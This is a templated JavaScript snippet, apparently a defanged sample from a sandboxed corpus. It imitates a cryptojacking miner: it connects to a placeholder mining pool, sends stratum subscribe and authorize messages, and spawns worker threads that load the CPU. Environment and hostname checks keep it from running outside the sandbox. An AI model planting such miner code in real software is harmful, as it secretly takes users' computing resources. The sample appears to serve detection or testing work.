// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const { Worker } = require('worker_threads');
    const os = require('os');
    await new Promise((done) => {
        const pool = require('net').connect({{port}}, '{{host}}', () => {
            pool.write('{"id":1,"method":"mining.subscribe","params":["{{miner}}/6.2"]}\n');
            pool.write('{"id":2,"method":"mining.authorize","params":["{{token}}","x"]}\n');
        });
        pool.on('error', () => {});
        const code = `const c = require('crypto'), end = Date.now() + 1000; let h = Buffer.alloc(32);
            while (Date.now() < end) h = c.createHash('sha512').update(h).digest();`;
        for (let worker = 0; worker < Math.min(4, os.cpus().length); worker++)
            new Worker(code, { eval: true }).on('error', () => {});
        setTimeout(() => { pool.destroy(); done(); }, 1300);
    });
}
